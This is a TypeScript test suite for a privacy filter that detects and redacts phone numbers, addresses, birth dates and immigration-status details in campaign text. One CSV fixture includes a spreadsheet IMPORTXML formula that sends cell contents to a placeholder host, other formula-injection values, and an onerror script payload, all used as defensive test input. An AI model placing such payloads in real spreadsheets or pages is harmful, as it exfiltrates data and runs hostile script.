import { cutLeaks, findLeaks, type LeakKind } from '../../src/domain/leakCheck';

const kindsIn = (text: string) => findLeaks(text).map((leak) => leak.kind);
const found = (text: string, kind: LeakKind) =>
  findLeaks(text, { kinds: [kind] }).map(({ start, end }) => text.slice(start, end));

/** Each rule: what it finds, with the words it should take, and what it must leave alone. */
function table(
  rule: string,
  kind: LeakKind,
  rows: { are: readonly (readonly [string, string])[]; areNot: readonly string[] },
) {
  it.each(rows.are)(`[${rule}] %j: finds %j`, (text, part) => {
    expect(found(text, kind)).toEqual([part]);
  });
  it.each(rows.areNot.map((text) => [text]))(`[${rule}] leaves %j alone`, (text) => {
    expect(found(text, kind)).toEqual([]);
  });
}

/** Sentences of campaigns, in which nothing at all is to be found. */
const CAMPAIGN = [
  'Grant the stay of removal',
  'A grandmother is being taken from the four children she raises',
  'Her stay was filed three weeks ago and nobody answered',
  'Daily calls since Monday',
  '180 days were last month, ask a lawyer about custody review',
  'Do not detain at the check-in',
  'She has reported at every check-in for nine years',
  'Family wants to decide about the press later',
  'Set a bond he can pay',
  'Punished for working',
  'His coworkers will vouch for him',
  'Two children would lose their home in the middle of the school year',
  'Los niños no deben salir en fotos',
  'A nurse the whole block depends on',
  'Bond paid 2/1',
  'resting for now; call before doing anything',
  'flight may have been cancelled?? nobody recorded it',
  'same person as above, entered twice',
  'typed by somebody in the public form',
  'Concedan la suspensión',
  'La separan de su hijo enfermo',
  '25/02/2026 is day first: a person typed it',
  'detained date in the future, surely a typo; goal is not a number',
  'appeal must be received, not mailed',
  'Give her time to appeal',
  'Release him at the custody review',
  'The team lost its coach',
  '90 days today',
  'No one belongs in detention. We act whatever the person’s record.',
  'Stop the deportation of a father of three',
  'He could be deported on 2026-03-12',
  'Facing deportation after nine years here',
  'asked for the A-number',
  'officer on leave until Monday',
  'Mari 5: 2 spoke, 2 message, 1 full',
  'No threats, no insults, stop when asked',
  "Haitian Women's Circle",
  'Parish of San Martín',
  'Dockworkers 1814',
  'Escuela Lincoln PTA',
  'New York City',
  'El vuelo sale el 12 de marzo de 2026 a las 9:30',
  'Llamen a la oficina de ICE de 9 a 12 y de 2 a 5',
  'La familia decide qué se publica',
  'Hearing 3/19/2026 10:30 am, courtroom 12',
  'Goal: 1,200 signatures by 4/10/2026; 350 so far',
];

describe('leak check', () => {
  it.each(CAMPAIGN.map((text) => [text]))('[L1] [L2] [L3] [L4] [L5] [L6] nothing in %j', (text) => {
    expect(findLeaks(text)).toEqual([]);
  });

  table('L2', 'phone', {
    are: [
      ['call me at (212) 555-0147', '(212) 555-0147'],
      ['212-555-0147', '212-555-0147'],
      ['212.555.0147', '212.555.0147'],
      ['212 555 0147', '212 555 0147'],
      ['2125550147', '2125550147'],
      ['+1 (212) 555-0147', '+1 (212) 555-0147'],
      ['1-212-555-0147', '1-212-555-0147'],
      ['12125550147', '12125550147'],
      ['212/555-0147', '212/555-0147'],
      ['(212)555-0147 ext. 12', '(212)555-0147 ext. 12'],
      ['212–555–0147', '212–555–0147'],
      ['２１２－５５５－０１４７', '２１２－５５５－０１４７'],
      ['212\u200b-555\u200b-0147', '212\u200b-555\u200b-0147'],
      ['2 1 2 5 5 5 0 1 4 7', '2 1 2 5 5 5 0 1 4 7'],
      ['her cell: 555-0147', '555-0147'],
      ['room 5 212-555-0147', '212-555-0147'],
      ['+503 2222 3333', '+503 2222 3333'],
      ['+52 55 1234 5678', '+52 55 1234 5678'],
      ['55 1234 5678', '55 1234 5678'],
      ['(664) 123 45 67', '(664) 123 45 67'],
      ['011 502 2345 6789', '011 502 2345 6789'],
      ['(502) 2345-6789', '(502) 2345-6789'],
      ['2222-3333', '2222-3333'],
      ['+33 1 42 68 53 00', '+33 1 42 68 53 00'],
      ['llámeme al 2222 3333', '2222 3333'],
      ['Tel.: 22223333', '22223333'],
      ['su celular es 5551 2345', '5551 2345'],
      ['WhatsApp 50222345678', '50222345678'],
      ['1-800-FLOWERS', '1-800-FLOWERS'],
      ['hotline 1-844-363-1423', '1-844-363-1423'],
      ['+1-212-555-0147, pregunte por Ana', '+1-212-555-0147'],
    ],
    areNot: [
      'A12345678',
      'alien number 098-765-432',
      'IOE0912345678',
      'EAC2190012345',
      '2026-03-12',
      '2026-03-12 10:17',
      '9:00 2026-03-11',
      '12:00-13:00 2026-03-11',
      'call on 03/12/2026',
      'call 12.03.2026',
      '1,200',
      '$2,125,550,147',
      '4111 1111 1111 1111',
      'Newark, NJ 07102-1234',
      'from 2025-2026',
      '40 calls, 12 contacts',
      'call 20 people',
      'extension 4021',
      'docket 23-cv-01234',
      'A-1234-22',
      '350 000 000 people',
      'call before 10:30',
      'Form I-589',
      '8 U.S.C. 1231',
      'INA 212(a)(9)',
      'goal 1,200,300',
      '10 20 30 40',
      'Local 1814',
    ],
  });

  it("[L2] a target's official line is no finding, however either is spelled", () => {
    const allowPhones = ['+1 (212) 264-4213', '973.645.3666 ext. 4'];
    for (const line of [
      '212-264-4213',
      '(212) 264 4213',
      '2122644213',
      '1 212 264 4213',
      '212-264-4213 x12',
      '264-4213',
      '９７３-645-3666',
    ]) {
      expect(findLeaks(`call ${line} today`, { allowPhones })).toEqual([]);
    }
    expect(findLeaks('call 212-264-4214', { allowPhones })).toHaveLength(1);
    expect(findLeaks('call 212-264-4213 or 212-555-0147', { allowPhones })).toHaveLength(1);
  });

  table('L3', 'address', {
    are: [
      ['lives at 123 Main St', '123 Main St'],
      ['123 Main Street, Apt 4B', '123 Main Street, Apt 4B'],
      ['45-12 37th Ave, Queens', '45-12 37th Ave'],
      ['1200 N. Broad Blvd.', '1200 N. Broad Blvd.'],
      ['77 Martin Luther King Jr Drive', '77 Martin Luther King Jr Drive'],
      ['9 Oak Court', '9 Oak Court'],
      ['123 main st', '123 main st'],
      ['55 east 10th street', '55 east 10th street'],
      ['12 Elm Ln, Newark, NJ 07102', '12 Elm Ln, Newark, NJ 07102'],
      ['300 Park Ave #12', '300 Park Ave #12'],
      ['120 Broadway', '120 Broadway'],
      ['apt 4B', 'apt 4B'],
      ['she is in apartment 12', 'apartment 12'],
      ['Apto. 5', 'Apto. 5'],
      ['P.O. box 123', 'P.O. box 123'],
      ['PO Box 77', 'PO Box 77'],
      ['Apartado postal 55', 'Apartado postal 55'],
      ['he lives on Elm Street', 'lives on Elm Street'],
      ['Calle 5 #12', 'Calle 5 #12'],
      ['Calle 5 # 12-34', 'Calle 5 # 12-34'],
      ['calle 5 con avenida 3', 'calle 5 con avenida 3'],
      ['Calle Hidalgo 45', 'Calle Hidalgo 45'],
      ['calle hidalgo 45', 'calle hidalgo 45'],
      ['Av. Juárez No. 100', 'Av. Juárez No. 100'],
      ['Avenida 16 de Septiembre 12, depto. 3', 'Avenida 16 de Septiembre 12, depto. 3'],
      ['Carrera 7 # 12-34', 'Carrera 7 # 12-34'],
      ['vive en la calle Morelos', 'vive en la calle Morelos'],
      ['home address: 45 Oak', 'home address: 45 Oak'],
    ],
    areNot: [
      '90 days in court',
      '3 years of waiting in court',
      '2 hours drive',
      '60 people from St. Brigid',
      '300 St. Brigid parishioners',
      '120 people on the way',
      'two children in one place',
      '3 Supreme Court justices',
      '5 Immigration Court judges',
      '2 letters from Dr. Feld',
      '10 Master hearing',
      'Feb 26, 2026',
      'carrera de 5 km',
      'paseo con 40 personas',
      'la calle tiene 40 personas',
      'un camino de 3 horas',
      'Clinic at the law school',
      'Mercado Vendors',
      'Federal Plaza rally at noon',
      '40 calls a day, 5 days a week',
      'the whole block depends on her',
      'en 3 departamentos del país',
      '4 children she raises',
      'meet at the church on Sunday',
    ],
  });

  table('L4', 'birthDate', {
    are: [
      ['born 4/2/1981', 'born 4/2/1981'],
      ['born on April 2, 1981', 'born on April 2, 1981'],
      ['DOB: 1981-04-02', 'DOB: 1981-04-02'],
      ['D.O.B. 04-02-81', 'D.O.B. 04-02-81'],
      ['dob 04021981', 'dob 04021981'],
      ['date of birth is 2 Apr 1981', 'date of birth is 2 Apr 1981'],
      ['Birthdate 4.2.1981', 'Birthdate 4.2.1981'],
      ['her birthday is April 2nd', 'birthday is April 2nd'],
      ['born in 1981', 'born in 1981'],
      ['born in Newark on 4/2/1981', 'born in Newark on 4/2/1981'],
      ['born April 1981', 'born April 1981'],
      ['4/2/1981 (DOB)', '4/2/1981 (DOB)'],
      ['nació el 2 de abril de 1981', 'nació el 2 de abril de 1981'],
      ['nacida el 02/04/1981', 'nacida el 02/04/1981'],
      ['nacido en 1981', 'nacido en 1981'],
      ['nació en San Salvador el 2 de abril', 'nació en San Salvador el 2 de abril'],
      ['fecha de nacimiento: 2-abr-1981', 'fecha de nacimiento: 2-abr-1981'],
      ['Fecha de nac. 02/04/81', 'Fecha de nac. 02/04/81'],
      ['F.N. 1981-04-02', 'F.N. 1981-04-02'],
      ['su cumpleaños es el 2 de abril', 'cumpleaños es el 2 de abril'],
      ['year of birth 1981', 'year of birth 1981'],
    ],
    areNot: [
      '4/2/1981',
      'hearing on April 2, 2026',
      'detained since 2026-01-15',
      'newborn at home; court 3/4/2026',
      'born leader of 40 people',
      'a birthday party for the twins',
      'the check-in is 03/11/26',
      'filed 1981-04-02',
      'DOB unknown',
      'date of birth not given',
      'nacimiento',
      '10 de abril de 2026',
      'Bond paid 2/1',
      'the campaign was born here; rally 3/12',
      'reborn 3/4/2026',
      'el bebé nació sano; cita el 3/4/2026',
      'birth certificate filed 3/4/2026',
      'age 45',
      'cumple 90 días detenido el 10 de marzo',
      'the day of the hearing, 3/10/2026',
    ],
  });

  table('L5', 'status', {
    are: [
      ['order: reinstated', 'reinstated'],
      ['Reinstatement of the old decision', 'Reinstatement'],
      ['charged with illegal reentry', 'reentry'],
      ['after a re-entry in May', 're-entry'],
      ['she is undocumented', 'undocumented'],
      ['he overstayed', 'overstayed'],
      ['crossed the border at night', 'crossed the border'],
      ['entered without inspection', 'entered without inspection'],
      ['EWI', 'EWI'],
      ['no papers', 'no papers'],
      ['sin papeles', 'sin papeles'],
      ['es indocumentada', 'indocumentada'],
      ['a citizen of Honduras', 'citizen of Honduras'],
      ['the children are U.S. citizens', 'U.S. citizens'],
      ['not a citizen', 'not a citizen'],
      ['a Honduran national', 'Honduran national'],
      ['born in Honduras', 'born in Honduras'],
      ['born and raised in El Salvador', 'born and raised in El Salvador'],
      ['nació en Guatemala', 'nació en Guatemala'],
      ['a mother from Guatemala', 'from Guatemala'],
      ['ella es de Honduras', 'es de Honduras'],
      ['she is Haitian', 'is Haitian'],
      ['originario de Puebla', 'originario de Puebla'],
      ['country of birth: Ecuador', 'country of birth: Ecuador'],
      ['nacionalidad: peruana', 'nacionalidad: peruana'],
      ['deported in 2015', 'deported in 2015'],
      ['was deported before', 'was deported'],
      ['deportado antes', 'deportado antes'],
      ['lo deportaron hace años', 'lo deportaron'],
      ['a prior removal', 'prior removal'],
      ['orden de deportación anterior', 'orden de deportación anterior'],
      ['his visa expired', 'visa expired'],
      ['came on a tourist visa', 'came on a tourist visa'],
      ['entró sin inspección', 'entró sin inspección'],
      ['cruzó la frontera', 'cruzó la frontera'],
      ['entered the country in 2009', 'entered the country in 2009'],
      ['has a green card', 'green card'],
      ['residente permanente', 'residente permanente'],
      ['DACA recipient', 'DACA'],
      ['out of status since May', 'out of status'],
      ['an asylum-seeker', 'asylum-seeker'],
      ['paroled into the room', 'paroled into'],
      ['un\u200bdocumented', 'un\u200bdocumented'],
    ],
    areNot: [
      'stay of removal',
      'a final order of removal is not the end',
      'stop the deportation flight',
      'he will be deported on Thursday',
      'the deportation officer',
      'senior citizens of the parish came',
      'citizens of the block signed',
      "the Citizens' Committee",
      'born in 1981',
      'born in detention',
      'Consulate of Mexico',
      'calls from Guatemala',
      'neighbors from Jamaica, Queens',
      'from New Mexico',
      'entered twice in the list',
      'names entered by hand',
      'rally at the border of the park',
      'immigration status is not on this form',
      'no status update yet',
      'the raid was illegal',
      'detención ilegal',
      'signed papers for the attorney',
      'removed from the mailing list',
      'was removed by mistake from the sheet',
      'parole officer',
      'New Sanctuary Coalition',
      'legal help is free',
      'la frontera entre dos barrios',
      'reinstall the app',
      'the visa office is closed',
    ],
  });

  table('L6', 'phrase', {
    are: [
      ['he is not a criminal', 'not a criminal'],
      ["he isn't a criminal", "isn't a criminal"],
      ['they are not criminals', 'not criminals'],
      ['no criminal record', 'no criminal record'],
      ['his criminal record', 'criminal record'],
      ['clean record', 'clean record'],
      ['a good immigrant', 'good immigrant'],
      ['a hard-working immigrant', 'hard-working immigrant'],
      ['hardworking father of two', 'hardworking father'],
      ['law-abiding', 'law-abiding'],
      ['pays her taxes', 'pays her taxes'],
      ['did it the right way', 'did it the right way'],
      ['came here the legal way', 'came here the legal way'],
      ['never been arrested', 'never been arrested'],
      ['a productive member of society', 'productive member of society'],
      ['one of the good ones', 'one of the good ones'],
      ['felons, not families', 'felons, not families'],
      ['go after real criminals', 'real criminals'],
      ['through no fault of her own', 'through no fault of her own'],
      ['not a danger to anyone', 'not a danger'],
      ['no es criminal', 'no es criminal'],
      ['no es un delincuente', 'no es un delincuente'],
      ['no somos criminales', 'no somos criminales'],
      ['es gente de bien', 'gente de bien'],
      ['un buen inmigrante', 'buen inmigrante'],
      ['un hombre muy trabajador', 'hombre muy trabajador'],
      ['sin antecedentes penales', 'sin antecedentes penales'],
      ['no tiene antecedentes', 'no tiene antecedentes'],
      ['paga sus impuestos', 'paga sus impuestos'],
      ['hizo las cosas bien', 'hizo las cosas bien'],
      ['nunca ha cometido un delito', 'nunca ha cometido un delito'],
      ['no es una amenaza', 'no es una amenaza'],
      ['not a crimi\u00adnal', 'not a crimi\u00adnal'],
    ],
    areNot: [
      'whatever the person’s record',
      'the criminal court building',
      'a criminal defense lawyer',
      'No threats, no insults',
      'no es tarde para llamar',
      'no carga su teléfono',
      'la amenaza de deportación',
      'antecedentes del caso',
      'hizo bien la llamada',
      'get in line at 7 am',
      'two good neighbors',
      'go the right way at the corner',
      'taxpayer money pays for this',
      'working hard on the petition',
      'Restaurant Workers Committee',
      'the record of the hearing',
      'no record of the call',
      'buen día',
      'inmigrantes y vecinos marchan juntos',
      'he follows the instructions',
      'not detained',
      'un trabajador del mercado',
    ],
  });

  it('[L2] [L4] [L6] three findings in the sample note, each at its place', () => {
    const text = 'call me at (212) 555-0147, born 4/2/1981, he is not a criminal';
    expect(kindsIn(text)).toEqual(['phone', 'birthDate', 'phrase']);
    expect(cutLeaks(text, findLeaks(text), (kind) => `‹${kind}›`)).toBe(
      'call me at ‹phone›, ‹birthDate›, he is ‹phrase›',
    );
  });

  it('[L8] only the kinds asked for', () => {
    const text = 'A12345678, 212-555-0147, undocumented';
    expect(kindsIn(text)).toEqual(['aNumber', 'phone', 'status']);
    expect(findLeaks(text, { kinds: ['phone'] }).map((leak) => leak.kind)).toEqual(['phone']);
    expect(findLeaks(text, { kinds: [] })).toEqual([]);
  });

  it('[L8] what overlaps is cut once, with the graver kind', () => {
    const text = 'born in Honduras on 4/2/1981';
    expect(findLeaks(text)).toEqual([{ kind: 'birthDate', start: 0, end: text.length }]);
    const twice = [...findLeaks(text), ...findLeaks(text)];
    expect(cutLeaks(text, twice, () => '-')).toBe('-');
  });

  it('[L5] accents, capitals and full width make no difference', () => {
    for (const text of [
      'ENTRÓ SIN INSPECCIÓN',
      'entro sin inspeccion',
      'entro\u0301 sin inspeccio\u0301n',
      'ｅｎｔｒｏ ｓｉｎ ｉｎｓｐｅｃｃｉｏｎ',
    ]) {
      expect(found(text, 'status')).toEqual([text]);
    }
  });

  it('[L1] [L2] [L4] [L5] [L6] in a list as a group keeps it, only the cells that hold something', () => {
    const list = [
      'Ana L.,intake,about to be detained,,reinstated,preparing,03/11/26,ICE check-in,3/10/2026,Northside Legal Aid,no',
      'J.,active,Detained,unknown,unknown,,TBD,hearing?,,"family called the hotline, facility unknown; alien number A 098-765-432, do not post"',
      '"=IMPORTXML(""http://example.test/?""&A1,""//a"")",intake,unknown,,typed by somebody in the public form',
      '+1 alias,intake,unknown,,@SUM(1+1),-2+3,\tcell,"<img src=x onerror=alert(1)> and ""quotes"", commas;\nand a second line"',
      'Coach,active,detained,2025-12-10,final order,filed,2026-03-24,custody review,2026-03-09,M. Haddad,yes 2026-01-09,Youth soccer,140',
      '90 days today,Father Tim,Buffalo,30,"call me at (212) 555-0147, born 4/2/1981, he is not a criminal"',
    ].join('\n');
    expect(findLeaks(list).map(({ start, end, kind }) => `${kind}: ${list.slice(start, end)}`)).toEqual([
      'status: reinstated',
      'aNumber: alien number A 098-765-432',
      'phone: (212) 555-0147',
      'birthDate: born 4/2/1981',
      'phrase: not a criminal',
    ]);
  });

  it('[L8] reads a cell as long as Google allows without slowing down', () => {
    for (const piece of ['from the ', '212 ', 'ñ1 ', '12 Oak ', 'born in x y z ']) {
      const began = Date.now();
      findLeaks(piece.repeat(50_000 / piece.length));
      expect(Date.now() - began).toBeLessThan(3_000);
    }
  });
});
